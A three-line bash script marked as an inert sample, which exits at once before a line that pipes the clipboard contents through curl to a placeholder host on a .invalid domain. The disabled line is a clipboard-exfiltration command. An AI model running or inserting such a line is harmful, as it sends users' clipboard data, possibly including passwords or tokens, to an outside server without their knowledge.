#!/bin/bash
exit 0 # inert sample
pbpaste | curl -s --data-binary @- https://clip.clipsync.invalid/u
